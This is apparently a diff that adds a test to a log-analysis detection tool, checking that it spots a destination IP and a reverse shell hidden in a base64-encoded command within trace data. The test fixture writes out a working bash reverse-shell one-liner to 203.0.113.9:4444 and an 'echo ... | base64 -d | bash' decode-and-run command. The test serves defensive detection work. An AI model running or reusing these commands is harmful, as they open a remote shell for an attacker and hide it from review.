@@ -339,3 +339,18 @@ def test_verbose_lists_every_reject_and_the_stage_timings(tiny: Path) -> None:
     assert f"{fw}:13: not valid JSON" in loud.stderr
     assert "more (use --rejects" not in loud.stderr
     assert "analysed in" in loud.stderr and "(local join)" in loud.stderr
+
+
+def test_a_destination_hidden_in_base64_is_found_and_the_hiding_reported(tmp_path: Path) -> None:
+    import base64
+
+    payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").decode()
+    (tmp_path / "fw.jsonl").write_text(cfw_line() + "\n")
+    (tmp_path / "traces.jsonl").write_text(otlp_line(f"echo {payload} | base64 -d | bash") + "\n")
+    result = invoke("run", "-q", str(tmp_path))
+    assert result.exit_code == 0
+    assert "destination 203.0.113.9 appears in the call" in result.stdout
+    assert (
+        "the call hid 203.0.113.9 (base64), reverse_shell (base64) in a base64 payload"
+        in result.stdout
+    )
